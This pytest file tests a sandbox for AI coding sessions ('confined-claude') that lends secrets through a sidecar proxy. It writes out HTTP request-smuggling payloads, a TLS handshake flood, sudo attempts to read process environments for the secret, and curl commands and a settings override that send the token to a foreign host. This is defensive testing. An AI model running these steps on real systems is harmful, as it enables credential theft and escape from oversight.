"""Attacks on what is lent, in real sessions: to have it elsewhere than in its header at its host, and to read it."""

from __future__ import annotations

import json
import signal
from pathlib import Path

import pytest
from helpers import Api, User, own_name, text_of, up, wait_until
from lending import API_HOST, API_URL, HOST, NETWORKS, OTHER, VALUE, There, borrower, lent_api, signed_in, there
from terminals import terminal

__all__ = ["borrower", "lent_api", "signed_in", "there"]
# Each a raw request in TLS; what `auth` stands for has the placeholder.
REQUESTS = {
    "as it should be": "GET /echo/ HTTP/1.1\r\nHost: HOST\r\nAUTH\r\n",
    "foreign Host": "GET /echo/ HTTP/1.1\r\nHost: OTHER\r\nAUTH\r\n",
    "no Host": "GET /echo/ HTTP/1.1\r\nAUTH\r\n",
    "two Hosts": "GET /echo/ HTTP/1.1\r\nHost: HOST\r\nHost: HOST\r\nAUTH\r\n",
    "absolute URI": "GET https://OTHER/echo/ HTTP/1.1\r\nHost: HOST\r\nAUTH\r\n",
    "at sign": "GET @OTHER/echo/ HTTP/1.1\r\nHost: HOST\r\nAUTH\r\n",
    "header twice": "GET /echo/ HTTP/1.1\r\nHost: HOST\r\nAUTHAUTH\r\n",
    "CL and TE": "POSTContent-Length: 5\r\nTransfer-Encoding: chunked\r\nAUTH\r\n0\r\n\r\n",
    "two CLs": "POSTContent-Length: 0\r\nContent-Length: 9\r\nAUTH\r\n",
    "TE twice": "POSTTransfer-Encoding: chunked\r\nTransfer-Encoding: x\r\nAUTH\r\n0\r\n\r\n",
    "space before colon": "GET /echo/ HTTP/1.1\r\nHost : HOST\r\nAUTH\r\n",
    "NUL": "GET /echo/ HTTP/1.1\r\nHost: HOST\r\nX: \0\r\nAUTH\r\n",
    "TRACE": "TRACE /echo/ HTTP/1.1\r\nHost: HOST\r\nAUTH\r\n",
    "trace in small letters": "trace /echo/ HTTP/1.1\r\nHost: HOST\r\nAUTH\r\n",
    "TRACK": "TRACK /echo/ HTTP/1.1\r\nHost: HOST\r\nAUTH\r\n",
    "control character": "GET /echo/ HTTP/1.1\r\nHost: HOST\r\nX: a\x01b\r\nAUTH\r\n",
    "inner CONNECT": "CONNECT OTHER:443 HTTP/1.1\r\nHost: HOST\r\nAUTH\r\n",
    "WebSocket": "GET /echo/ HTTP/1.1\r\nHost: HOST\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nAUTH\r\n",
    "HTTP/2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
}  # fmt: skip
PROGRAM = """
import json, os, socket, ssl, sys
requests = json.load(open("requests.json")); found = {}
context = ssl.create_default_context()
def ask(name, request, sni=HOST):
    try:
        with socket.create_connection((HOST, 443), 60) as sock, context.wrap_socket(sock, server_hostname=sni) as tls:
            tls.sendall(request.encode("latin-1")); answer = b""
            while more := tls.recv(65536): answer += more
    except OSError as error:
        found[name] = str(error); return
    found[name] = answer.decode("latin-1")
auth = f"Authorization: Bearer {os.environ['GH_TOKEN']}\\r\\nConnection: close\\r\\n"
for name, request in requests.items():
    ask(name, request.replace("AUTH", auth).replace("HOST", HOST).replace("OTHER", OTHER))
context.check_hostname = False
good = requests["as it should be"].replace("AUTH", auth).replace("HOST", HOST)
ask("foreign SNI", good, OTHER)
ask("no SNI", good, None)
ask("a value elsewhere", good.replace("Connection:", f"X-Mine: {os.environ['GH_TOKEN']}\\r\\nConnection:"))
json.dump(found, open("found.json", "w"))
"""


@pytest.mark.parametrize("network", NETWORKS)
def test_only_what_is_plainly_one_request_for_the_host_gets_the_value(
    borrower: tuple[User, Path], there: There, network: str
) -> None:
    user, project = borrower
    post = "POST /echo/ HTTP/1.1\r\nHost: HOST\r\n"
    (project / "requests.json").write_text(
        json.dumps({name: text.replace("POST", post) for name, text in REQUESTS.items()})
    )
    (project / "attack.py").write_text(f"HOST, OTHER = {HOST!r}, {OTHER!r}\n{PROGRAM}")
    user.own(project / "requests.json", project / "attack.py")
    before = len(there.log)
    done = user.run("confined-claude", "shell", "--network", network, "--", "python3", "attack.py", cwd=project)
    assert done.returncode == 0, done.stderr
    found = json.loads((project / "found.json").read_text())
    good = found.pop("as it should be")
    assert good.startswith("HTTP/1.1 200 ")
    assert VALUE in good, "the control: where a host shows it, the session reads it, as the docs say"
    elsewhere = found.pop("a value elsewhere")
    echoed = json.loads(elsewhere.partition("\r\n\r\n")[2].partition("\r\n")[2].rpartition("}")[0] + "}") if (
        "chunked" in elsewhere.lower()
    ) else json.loads(elsewhere.partition("\r\n\r\n")[2])  # fmt: skip
    assert VALUE in echoed["authorization"]
    assert VALUE not in echoed["x-mine"]
    assert {name for name, answer in found.items() if VALUE in answer} == set()
    assert {name for name, answer in found.items() if answer.startswith("HTTP/1.1 2")} == set()
    # A tunnel is made at the first request that is one: three at most have reached the host.
    asked = [line for line in there.log[before:] if "/echo/" in line]
    assert len(asked) == 2, asked
    shown = user.run("confined-claude", "blocked", cwd=project).stdout
    assert "a secret is lent there, and this was not plainly one request" in shown


FLOOD = """
import contextlib, socket, ssl
sent = ssl.MemoryBIO()
name = ".".join(["a" * 60] * 4)
try:
    ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), sent, server_hostname=name).do_handshake()
except ssl.SSLWantReadError:
    pass
hello = sent.read()
assert hello.count(b"a" * 60) == 4
for _ in range(3000):
    with contextlib.suppress(ConnectionError), socket.create_connection((HOST, 443), 60) as sock:
        sock.sendall(hello.replace(b"a" * 60, b"\\xff" * 60))
        while sock.recv(4096):
            pass
"""


@pytest.mark.parametrize("network", NETWORKS)
def test_what_the_sidecar_cannot_read_does_not_fill_what_nobody_reads(
    borrower: tuple[User, Path], network: str
) -> None:
    """Python says something of each server's name that is not ASCII."""
    user, project = borrower
    (project / "attack.py").write_text(f"HOST = {HOST!r}\n{FLOOD}")
    user.own(project / "attack.py")
    script = f'python3 attack.py && curl -sS -m 120 https://{HOST}/echo/ -H "Authorization: $GH_TOKEN"'
    done = user.run("confined-claude", "shell", "--network", network, "--", "sh", "-c", script, cwd=project)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["authorization"] == VALUE


@pytest.mark.parametrize("network", NETWORKS)
def test_another_sessions_placeholder_is_a_word_like_any_other(
    borrower: tuple[User, Path], there: There, network: str
) -> None:
    user, project = borrower
    other = user.folder(project.parent / f"{project.name}-2")
    words = (
        "confined-claude",
        "shell",
        "--network",
        network,
        "--",
        "sh",
        "-c",
        "echo $GH_TOKEN >token; exec sleep 600",
    )
    with user.running(*words, cwd=other) as process:
        theirs = wait_until(lambda: text_of(other / "token").strip() or process.poll() is not None)
        assert up(other)
        ask = f'curl -sS https://{HOST}/echo/ -H "Authorization: Bearer'
        script = f'{ask} {theirs}"; echo; {ask} $GH_TOKEN"'
        done = user.run("confined-claude", "shell", "--network", network, "--", "sh", "-c", script, cwd=project)
        assert done.returncode == 0, done.stderr
        foreign, own = done.stdout.splitlines()
        assert json.loads(foreign)["authorization"] == f"Bearer {theirs}"
        assert json.loads(own)["authorization"] == f"Bearer {VALUE}", "the control"


@pytest.mark.parametrize("network", NETWORKS)
def test_no_process_of_the_session_sees_the_sidecars(borrower: tuple[User, Path], network: str) -> None:
    user, project = borrower
    script = "cat /proc/[0-9]*/cmdline >processes"
    done = user.run("confined-claude", "shell", "--network", network, "--", "bash", "-c", script, cwd=project)
    assert done.returncode == 0, done.stderr
    processes = (project / "processes").read_text()
    assert "egress" not in processes
    assert "tini" in processes, "the control: its own first process"


def test_with_sudo_full_the_sessions_root_neither_reads_nor_takes_over_the_sidecar(
    borrower: tuple[User, Path], there: There
) -> None:
    user, project = borrower
    script = f"""
        sudo sh -c 'cat /proc/*/environ /proc/*/cmdline' 2>/dev/null | grep -acf <(printf %s%s {VALUE[:6]} {VALUE[6:]})
        sudo python3 -c 'import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, 15, 1)
s.bind(("127.1.0.1", 443)); print("bound")' 2>&1 | tail -n 1
        sudo python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)' 2>&1 | tail -n 1
        curl -sS https://{HOST}/echo/ -H "Authorization: $GH_TOKEN"
    """
    user.variables["CONFINED_CLAUDE_SUDO"] = "full"
    done = user.run("confined-claude", "shell", "--network", "internet", "--", "bash", "-c", script, cwd=project)
    lines = done.stdout.splitlines()
    assert lines[0] == "0"
    assert "Address already in use" in lines[1]
    assert "not permitted" in lines[2]
    assert json.loads(lines[3])["authorization"] == VALUE, "the control"


def test_claudes_sign_in_is_lent_to_its_api_alone_and_what_a_session_signs_in_with_is_in_no_other(
    signed_in: User, lent_api: Api, place: Path
) -> None:
    user, project = signed_in, signed_in.folder(own_name(place))
    user.sign_in(token="sk-ant-oat01-lent-0123456789abcdef")
    oauth = {"accessToken": "sk-ant-oat01-planted", "refreshToken": "sk-ant-ort01-planted", "expiresAt": 9e12}
    planted = json.dumps({"claudeAiOauth": oauth, "mcpOAuth": {"server": "kept"}})
    leave = f"""
        ask() {{ curl -sS --max-time 120 -H "Authorization: Bearer $CLAUDE_CODE_OAUTH_TOKEN" "$@"; echo; }}
        ask https://{API_HOST}/echo/
        ask -k https://{OTHER}/echo/
        ask -d '{{}}' -o /dev/null -w '%{{http_code}}' {API_URL}/v1/messages
        cd ~/.claude; echo '{planted}' >.credentials.json; mkdir -p backups
        sed -i '1s/{{/{{"primaryApiKey": "sk-ant-api03-planted",/' .claude.json; cp .claude.json backups/x
    """
    project_settings = json.dumps({"env": {"ANTHROPIC_BASE_URL": f"https://{OTHER}/echo"}})
    user.write(project / ".claude/settings.json", project_settings)
    first = user.run("confined-claude", "shell", "--", "bash", "-c", leave, cwd=project)
    *elsewhere, status = first.stdout.splitlines()
    assert "sk-ant-oat01-" in "".join(elsewhere), first.stderr
    assert ("lent-0123" in first.stdout, len(elsewhere), status) == (False, 2, "200")
    assert lent_api.tokens()[-1] == "sk-ant-oat01-lent-0123456789abcdef", "the control"
    config = user.home / ".local/share/confined-claude/shared/claude-config-lent"
    assert "A sign-in made inside a session, or a file that could hide one, is removed" in first.stderr
    assert [path for path in config.rglob("*") if path.is_file() and b"planted" in path.read_bytes()] == []
    (config / ".credentials.json").write_text(planted)  # as after a session whose tool was killed
    look = "cd ~/.claude; cat .credentials.json; grep -rl planted . || echo nothing; claude -p hello"
    second = user.run("confined-claude", "shell", "--", "bash", "-c", look, cwd=project)
    assert second.stdout == '{"mcpOAuth": {"server": "kept"}}nothing\nFAKE ANSWER: hello\n', second.stderr
    assert lent_api.tokens()[-1] == "sk-ant-oat01-lent-0123456789abcdef", "no project leads it elsewhere"


def test_a_lent_session_that_is_joined_follows_no_other_config_and_says_so(signed_in: User, place: Path) -> None:
    user, project = signed_in, signed_in.folder(own_name(place))
    user.sign_in(token="sk-ant-oat01-before-0123456789abcdef")
    with terminal(user, project, "confined-claude", "shell") as opened:
        opened.wait_for("claude@")
        opened.child.kill(signal.SIGKILL)
        opened.wait_for_end()
    assert len(up(project)) == 1
    planted = json.dumps({"claudeAiOauth": {"accessToken": "sk-ant-oat01-planted", "refreshToken": "planted"}})
    with terminal(user, project, "confined-claude", "shell") as joined:
        joined.wait_for("Join it?")
        joined.send("\r")
        joined.wait_for("is not renewed any more")
        user.sign_in(token="sk-ant-oat01-after-0123456789abcdef")
        joined.send(f"sleep 4; echo '{planted}' >~/.claude/.credentials.json; exit\r")
        assert joined.wait_for_end() == 0
    assert "uses the new one" not in joined.everything
    shared = user.home / ".local/share/confined-claude/shared"
    assert [path for path in shared.rglob(".credentials.json") if b"sk-ant-oat01" in path.read_bytes()] == []
    assert "A sign-in made inside a session, or a file that could hide one, is removed" in joined.everything
